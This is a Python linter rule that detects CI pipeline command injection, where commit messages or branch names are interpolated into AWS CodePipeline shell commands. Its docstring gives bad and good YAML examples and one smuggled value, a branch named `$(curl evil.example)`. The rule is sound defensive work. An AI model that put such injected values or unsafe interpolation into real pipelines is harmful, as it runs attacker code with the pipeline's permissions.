"""A commit message or the name of a branch inside a command.

CodePipeline puts the value of a variable into the command before a shell reads it, so no quotes help: a branch called
`$(curl evil.example)`, or such a commit message, runs a program with the permissions of the action. The same holds for the
title of a pull request, the name and the address of an author, and the name of a tag. `BranchName` is judged where a
trigger takes branches by a pattern.

Hand the text over as an environment variable of the action, and use that in double quotes: a shell does not read the
value of a variable as commands.

## Bad

```yaml pipeline
pipeline:
  name: kiosk
  roleArn: arn:aws:iam::111122223333:role/kiosk-pipeline
  artifactStore: {type: S3, location: kiosk-artifacts}
  pipelineType: V2
  stages:
    - name: Source
      actions:
        - name: Source
          namespace: Git
          actionTypeId: {category: Source, owner: AWS, provider: CodeCommit, version: "1"}
          configuration: {RepositoryName: kiosk, BranchName: main}
          outputArtifacts: [{name: Source}]
    - name: Run
      actions:
        - name: Run
          actionTypeId: {category: Compute, owner: AWS, provider: Commands, version: "1"}
          commands:
            - 'echo "Building #{Git.CommitMessage}"'  # error
          inputArtifacts: [{name: Source}]
```

```yaml pipeline
pipeline:
  name: kiosk
  roleArn: arn:aws:iam::111122223333:role/kiosk-pipeline
  artifactStore: {type: S3, location: kiosk-artifacts}
  pipelineType: V2
  triggers:
    - providerType: CodeStarSourceConnection
      gitConfiguration:
        sourceActionName: Source
        push:
          - {branches: {includes: ['feature/*']}}
  stages:
    - name: Source
      actions:
        - name: Source
          namespace: Git
          actionTypeId: {category: Source, owner: AWS, provider: CodeStarSourceConnection, version: "1"}
          configuration:
            ConnectionArn: arn:aws:codestar-connections:eu-west-1:111122223333:connection/aEXAMPLE-8aad-4d5d-8878-dfcab0bc441f
            FullRepositoryId: kiosk/kiosk
            BranchName: main
          outputArtifacts: [{name: Source}]
    - name: Run
      actions:
        - name: Run
          actionTypeId: {category: Compute, owner: AWS, provider: Commands, version: "1"}
          commands:
            - "make deploy BRANCH=#{Git.BranchName}"  # error
          inputArtifacts: [{name: Source}]
```

## Good

```yaml pipeline
pipeline:
  name: kiosk
  roleArn: arn:aws:iam::111122223333:role/kiosk-pipeline
  artifactStore: {type: S3, location: kiosk-artifacts}
  pipelineType: V2
  stages:
    - name: Source
      actions:
        - name: Source
          namespace: Git
          actionTypeId: {category: Source, owner: AWS, provider: CodeCommit, version: "1"}
          configuration: {RepositoryName: kiosk, BranchName: main}
          outputArtifacts: [{name: Source}]
    - name: Run
      actions:
        - name: Run
          actionTypeId: {category: Compute, owner: AWS, provider: Commands, version: "1"}
          commands:
            - 'echo "Building $MESSAGE"'
          environmentVariables:
            - {name: MESSAGE, value: "#{Git.CommitMessage}"}
          inputArtifacts: [{name: Source}]
```

```yaml pipeline
pipeline:
  name: kiosk
  roleArn: arn:aws:iam::111122223333:role/kiosk-pipeline
  artifactStore: {type: S3, location: kiosk-artifacts}
  pipelineType: V2
  triggers:
    - providerType: CodeStarSourceConnection
      gitConfiguration:
        sourceActionName: Source
        push:
          - {branches: {includes: [main]}}
  stages:
    - name: Source
      actions:
        - name: Source
          namespace: Git
          actionTypeId: {category: Source, owner: AWS, provider: CodeStarSourceConnection, version: "1"}
          configuration:
            ConnectionArn: arn:aws:codestar-connections:eu-west-1:111122223333:connection/aEXAMPLE-8aad-4d5d-8878-dfcab0bc441f
            FullRepositoryId: kiosk/kiosk
            BranchName: main
          outputArtifacts: [{name: Source}]
    - name: Run
      actions:
        - name: Run
          actionTypeId: {category: Compute, owner: AWS, provider: Commands, version: "1"}
          commands:
            - "make deploy BRANCH=#{Git.BranchName} COMMIT=#{Git.CommitId}"
          inputArtifacts: [{name: Source}]
```
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from specfmt.rules import Context, Finding, Severity, rule
from specfmt.rules.pipeline._untrusted import sources_of_any_branch, who_chooses
from specfmt.views.pipeline import Pipeline

if TYPE_CHECKING:
    from collections.abc import Iterator

    from specfmt.views.pipeline_variables import VariableReference

_BUILDSPEC = "BuildspecOverride"
_WHY = "the text is put into the command before a shell reads it, and can bring commands of its own"


@rule(on=Pipeline, group="security", severity=Severity.WARNING)
def check(pipeline: Pipeline, ctx: Context) -> Iterator[Finding]:
    in_shell_text = [each for each in pipeline.references if _is_shell_text(each)]
    if not in_shell_text:
        return
    open_sources = sources_of_any_branch(pipeline)
    for reference in in_shell_text:
        who = who_chooses(reference, pipeline, open_sources)
        if who:
            what = "command" if reference.field == "commands" else "buildspec"
            message = f"{who} chooses the text of `#{{{reference.text}}}`, which becomes part of a {what}"
            yield Finding(reference.span, message, _WHY)


def _is_shell_text(reference: VariableReference) -> bool:
    """Tell whether a shell reads the value: a command, or a buildspec that is written into the action."""
    if reference.field == "commands":
        return True
    return reference.key == _BUILDSPEC and "phases" in reference.node.text
